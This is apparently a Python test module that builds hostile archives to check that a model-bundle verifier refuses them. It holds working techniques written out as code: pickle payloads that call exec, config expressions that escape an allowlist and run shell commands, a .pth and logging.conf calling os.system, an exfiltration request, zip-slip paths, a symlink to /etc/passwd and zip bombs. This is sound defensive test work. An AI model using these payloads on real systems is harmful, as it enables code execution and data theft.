"""The attack corpus: hostile archives built from a clean, signed one.

Each builder returns the hostile archive and the file that ``verify`` must name when it refuses.
The hostile centre is the worst case: the SENDER itself, whose key the receiver trusts, so most
archives are signed with the trusted key (or unsigned, accepted with ``--allow-unsigned``). Every
payload writes a marker file into ``markers`` when it runs; none may ever appear.
"""

from __future__ import annotations

import hashlib
import io
import json
import pickle
import struct
import sys
import zipfile
from dataclasses import dataclass
from pathlib import Path

import torch

sys.path.insert(0, str(Path(__file__).resolve().parents[1]))

from test_exchange import entries  # noqa: E402  (the shared helpers of the exchange tests)

from mammoshare.exchange.layout import MANIFEST, SIGNATURE, manifest_bytes  # noqa: E402
from mammoshare.exchange.signing import load_private_key, sign_files  # noqa: E402


@dataclass
class Context:
    base: Path  # the clean archive, signed by the sender
    keys: dict[str, Path]
    markers: Path  # payloads write here when they run
    work: Path
    exfil_url: str  # a local HTTP server that records every request


class Payload:
    """A pickle that runs ``code`` when unpickled (what a hostile centre would smuggle)."""

    def __init__(self, code: str):
        self.code = code

    def __reduce__(self):
        return (exec, (self.code,))


def marker_code(ctx: Context, name: str) -> str:
    return f"open({str(ctx.markers / name)!r}, 'w').write('payload ran')"


def rebuild(ctx: Context, name: str, files: dict[str, bytes], sign: str | None = "sender_key", extra=(), keep: set = frozenset(),
            compression: int = zipfile.ZIP_STORED) -> Path:
    """A consistent archive of ``files``: manifest recomputed and signed (by ``sign``), as a sender would."""
    try:  # the sender's training record stays (the pinned config is regenerated from it)
        training = json.loads(files[MANIFEST]).get("training")
    except (KeyError, ValueError, AttributeError):
        training = None
    files = {k: v for k, v in files.items() if k not in (MANIFEST, SIGNATURE) or k in keep}
    if MANIFEST not in keep:
        listed = {n: (hashlib.sha256(d).hexdigest(), len(d)) for n, d in files.items() if n not in (MANIFEST, SIGNATURE)}
        files[MANIFEST] = manifest_bytes(listed, "dcgan_bcdr", "0.1.0", training=training)
    if sign is not None and SIGNATURE not in keep:
        signed = {n: hashlib.sha256(d).hexdigest() for n, d in files.items() if n != SIGNATURE}
        files[SIGNATURE] = sign_files(signed, "dcgan_bcdr", load_private_key(ctx.keys[sign]))
    path = ctx.work / f"{name}.zip"
    with zipfile.ZipFile(path, "w", compression=compression) as zf:
        for entry, data in sorted(files.items()):
            info = zipfile.ZipInfo(entry, date_time=(1980, 1, 1, 0, 0, 0))
            info.compress_type = compression
            zf.writestr(info, data)
        for info, data in extra:
            zf.writestr(info, data)
    return path


def with_config(ctx: Context, name: str, changes: dict, files_extra: dict | None = None, run: list | None = None) -> Path:
    files = entries(ctx.base)
    config = json.loads(files["configs/inference.json"])
    config.update(changes)
    if run is not None:
        config["run"] = run + config["run"]
    files["configs/inference.json"] = json.dumps(config, indent=4).encode()
    files.update(files_extra or {})
    return rebuild(ctx, name, files)


# --- the five ways that ran code, and the network -----------------------------------------------


def numpy_load_pickle(ctx):
    payload = pickle.dumps(Payload(marker_code(ctx, "numpy_load_pickle")), protocol=2)
    path = with_config(ctx, "numpy_load_pickle", {}, {"models/model.ts": payload},
                       run=["$numpy.load(@bundle_root + '/models/model.ts', None, True)"])
    return path, "configs/inference.json"


def loadimage_string_reader(ctx):
    command = f"touch {ctx.markers / 'loadimage_string_reader'}"
    loader = {"_target_": "monai.transforms.LoadImage", "reader": "subprocess.getoutput", "cmd": command}
    path = with_config(ctx, "loadimage_string_reader", {"loader": loader}, run=["$@loader"])
    return path, "configs/inference.json"


def reference_to_allowed_root(ctx):
    evil = ctx.work / "evil_config.json"
    evil.write_text(json.dumps({"x": f"$__import__('pathlib').Path({str(ctx.markers / 'reference_to_allowed_root')!r}).write_text('ran')"}))
    path = with_config(ctx, "reference_to_allowed_root", {"m": "$monai"},
                       run=[f"$@m.bundle.ConfigParser(@m.bundle.ConfigParser.load_config_file({str(evil)!r})).get_parsed_content('x')"])
    return path, "configs/inference.json"


def subscript_of_allowed_root(ctx):
    hub = ctx.work / "hub"
    hub.mkdir(exist_ok=True)
    (hub / "hubconf.py").write_text(f"open({str(ctx.markers / 'subscript_of_allowed_root')!r}, 'w').write('ran')\ndef m():\n    return 1\n")
    path = with_config(ctx, "subscript_of_allowed_root", {}, run=[f"$[torch][0].hub.load({str(hub)!r}, 'm', source='local', trust_repo=True)"])
    return path, "configs/inference.json"


def savetxt_pth(ctx):
    """numpy.savetxt writes a file where the sender chooses: a ``.pth`` in site-packages runs at every
    later Python start. Here the file it writes is the marker itself."""
    line = "import os; os.system('id')"
    path = with_config(ctx, "savetxt_pth", {}, run=[f"$numpy.savetxt({str(ctx.markers / 'savetxt_pth')!r}, numpy.array([{line!r}]), fmt='%s')"])
    return path, "configs/inference.json"


def torchscript(ctx):
    module = torch.jit.script(torch.nn.Linear(2, 2))
    buffer = io.BytesIO()
    torch.jit.save(module, buffer)
    path = with_config(ctx, "torchscript", {}, {"models/model.ts": buffer.getvalue()},
                       run=["$torch.jit.load(@bundle_root + '/models/model.ts')",
                            f"$numpy.savetxt({str(ctx.markers / 'torchscript')!r}, numpy.array(['ran']), fmt='%s')"])
    return path, "models/model.ts"


def network_exfiltration(ctx):
    path = with_config(ctx, "network_exfiltration", {}, run=[f"$numpy.loadtxt({ctx.exfil_url + '/?exfil='!r} + @generator_name)"])
    return path, "configs/inference.json"


# --- signatures and manifests -------------------------------------------------------------------


def tampered_consistent_manifest(ctx):
    files = entries(ctx.base)
    files["LICENSE"] = b"public domain, do what you like\n"
    return rebuild(ctx, "tampered", files, keep={SIGNATURE}), "LICENSE"


def untrusted_key(ctx):
    return rebuild(ctx, "untrusted_key", entries(ctx.base), sign="other_key"), SIGNATURE


def manifest_lists_fewer_files(ctx):
    files = entries(ctx.base)
    manifest_and_signature = rebuild(ctx, "fewer_inner", files)
    files = entries(manifest_and_signature)
    files["models/snapshots/extra.safetensors"] = files["models/model.safetensors"]
    return rebuild(ctx, "fewer", files, keep={MANIFEST, SIGNATURE}), "models/snapshots/extra.safetensors"


# --- the container ----------------------------------------------------------------------------


def _extra(ctx, name: str, entry: str, data: bytes = b"evil", info: zipfile.ZipInfo | None = None):
    info = info or zipfile.ZipInfo(entry, date_time=(1980, 1, 1, 0, 0, 0))
    return rebuild(ctx, name, entries(ctx.base), extra=[(info, data)]), entry


def duplicate_entry(ctx):
    return _extra(ctx, "duplicate", "LICENSE", b"another licence")


ZIP_SLIPS = {
    "parent": "../evil.txt",
    "backslash_parent": "..\\evil.txt",
    "absolute": "/etc/evil.txt",
    "drive_letter": "C:/evil.txt",
    "drive_backslash": "C:\\evil.txt",
    "nested_parent": "configs/../../evil.txt",
    "unc": "\\\\server\\share\\evil.txt",
    "nul": "configs/evil\x00.json",
    "not_nfc": "configs/me\u0301tadata.json",
    "case_collision": "License",
    "dot_part": "configs/./metadata.json",
}


def zip_slip(kind):
    def build(ctx):
        path, _ = _extra(ctx, f"slip_{kind}", ZIP_SLIPS[kind])
        return path, ZIP_SLIPS[kind].split("\x00")[0]  # zipfile shows a name cut at its NUL

    build.__name__ = f"zip_slip_{kind}"
    return build


def symlink(ctx):
    info = zipfile.ZipInfo("models/snapshots/link.safetensors", date_time=(1980, 1, 1, 0, 0, 0))
    info.create_system = 3
    info.external_attr = 0o120777 << 16
    return _extra(ctx, "symlink", "models/snapshots/link.safetensors", b"/etc/passwd", info)


def zip_bomb_ratio(ctx):
    files = entries(ctx.base)
    files["models/snapshots/bomb.safetensors"] = b"\x00" * (48 << 20)
    return rebuild(ctx, "bomb_ratio", files, compression=zipfile.ZIP_DEFLATED), "models/snapshots/bomb.safetensors"


def _patch_central_sizes(path: Path, names: set[str], size: int) -> None:
    data = bytearray(path.read_bytes())
    position = 0
    while (position := data.find(b"PK\x01\x02", position)) >= 0:
        name_length = struct.unpack("<H", data[position + 28 : position + 30])[0]
        name = bytes(data[position + 46 : position + 46 + name_length]).decode()
        if name in names:
            data[position + 24 : position + 28] = struct.pack("<I", size)
        position += 4
    path.write_bytes(bytes(data))


def zip_bomb_declared(ctx):
    """1.5 MB of archive declaring three snapshots of 419 MB each."""
    files = entries(ctx.base)
    names = {f"models/snapshots/huge_{i}.safetensors" for i in range(3)}
    for name in names:
        files[name] = files["models/model.safetensors"]
    path = rebuild(ctx, "bomb_declared", files)
    _patch_central_sizes(path, names, 419 << 20)
    return path, sorted(names)[0]


def encrypted_entry(ctx):
    path = rebuild(ctx, "encrypted", entries(ctx.base))
    data = bytearray(path.read_bytes())
    position = data.find(b"PK\x01\x02")
    while position >= 0:
        name_length = struct.unpack("<H", data[position + 28 : position + 30])[0]
        if bytes(data[position + 46 : position + 46 + name_length]) == b"LICENSE":
            data[position + 8] |= 0x1
            local = struct.unpack("<I", data[position + 42 : position + 46])[0]
            data[local + 6] |= 0x1
        position = data.find(b"PK\x01\x02", position + 4)
    path.write_bytes(bytes(data))
    return path, "LICENSE"


# --- file contents ----------------------------------------------------------------------------


def safetensors_huge_header(ctx):
    files = entries(ctx.base)
    header = json.dumps({"__metadata__": {"pad": " " * (3 << 20)}}).encode()
    files["models/model.safetensors"] = struct.pack("<Q", len(header)) + header
    return rebuild(ctx, "st_huge_header", files), "models/model.safetensors"


def safetensors_lying_header_length(ctx):
    files = entries(ctx.base)
    files["models/snapshots/epoch_0500.safetensors"] = struct.pack("<Q", 500 << 20) + b"{}"
    return rebuild(ctx, "st_lying_header", files), "models/snapshots/epoch_0500.safetensors"


def pickle_as(entry: str, protocol: int):
    def build(ctx):
        files = entries(ctx.base)
        files[entry] = pickle.dumps(Payload(marker_code(ctx, f"pickle_{protocol}")), protocol=protocol)
        return rebuild(ctx, f"pickle_as_{entry.replace('/', '_')}_{protocol}", files), entry

    build.__name__ = f"pickle_as_{entry.replace('/', '_').replace('.', '_')}_p{protocol}"
    return build


def numpy_file_as_snapshot(ctx):
    import numpy as np

    buffer = io.BytesIO()
    np.save(buffer, np.array([Payload(marker_code(ctx, "numpy_file"))], dtype=object), allow_pickle=True)
    files = entries(ctx.base)
    files["models/snapshots/epoch_0500.safetensors"] = buffer.getvalue()
    return rebuild(ctx, "npy_snapshot", files), "models/snapshots/epoch_0500.safetensors"


def torchscript_as_weights(ctx):
    buffer = io.BytesIO()
    torch.jit.save(torch.jit.script(torch.nn.Linear(2, 2)), buffer)
    files = entries(ctx.base)
    files["models/model.safetensors"] = buffer.getvalue()
    return rebuild(ctx, "ts_as_weights", files), "models/model.safetensors"


def logging_conf(ctx):
    files = entries(ctx.base)
    files["configs/logging.conf"] = (
        "[loggers]\nkeys=root\n[handlers]\nkeys=h\n[formatters]\nkeys=\n[logger_root]\nhandlers=h\n"
        f"[handler_h]\nclass=StreamHandler\nargs=(__import__('os').system('touch {ctx.markers / 'logging_conf'}'),)\n"
    ).encode()
    return rebuild(ctx, "logging_conf", files), "configs/logging.conf"


def metadata_expressions(ctx):
    files = entries(ctx.base)
    metadata = json.loads(files["configs/metadata.json"])
    metadata["description"] = f"$__import__('pathlib').Path({str(ctx.markers / 'metadata')!r}).write_text('ran')"
    metadata["$hook"] = "@_meta_#description"
    files["configs/metadata.json"] = json.dumps(metadata).encode()
    return rebuild(ctx, "metadata_expressions", files), "configs/metadata.json"


def model_card_names_a_patient(ctx):
    files = entries(ctx.base)
    files["docs/README.md"] += b"\nHardest training case: 22670301_98429c0bdf78c0c7_MG_R_CC_ANON.\n"
    return rebuild(ctx, "patient_card", files), "docs/README.md"


def generator_width(width):
    def build(ctx):
        files = entries(ctx.base)
        spec = json.loads(files["configs/generator.json"])
        spec["parameters"]["widths"][0] = width
        files["configs/generator.json"] = json.dumps(spec).encode()
        return rebuild(ctx, f"width_{width}", files), "configs/generator.json"

    build.__name__ = f"generator_width_{str(width).replace('.', '_').replace('+', '')}"
    return build


ATTACKS = [
    numpy_load_pickle, loadimage_string_reader, reference_to_allowed_root, subscript_of_allowed_root, savetxt_pth, torchscript,
    network_exfiltration, tampered_consistent_manifest, untrusted_key, manifest_lists_fewer_files, duplicate_entry,
    *[zip_slip(kind) for kind in ZIP_SLIPS], symlink, zip_bomb_ratio, zip_bomb_declared, encrypted_entry,
    safetensors_huge_header, safetensors_lying_header_length,
    *[pickle_as(entry, protocol) for entry in ("models/model.safetensors", "docs/README.md", "configs/generator.json", "LICENSE") for protocol in (0, 2)],
    numpy_file_as_snapshot, torchscript_as_weights, logging_conf, metadata_expressions, model_card_names_a_patient,
    generator_width(250_000), generator_width(1e8),
]
#: the attacks whose payload is in a config: run as the old README said, they did run (the control)
CONFIG_PAYLOADS = ("numpy_load_pickle", "loadimage_string_reader", "reference_to_allowed_root", "subscript_of_allowed_root", "savetxt_pth")
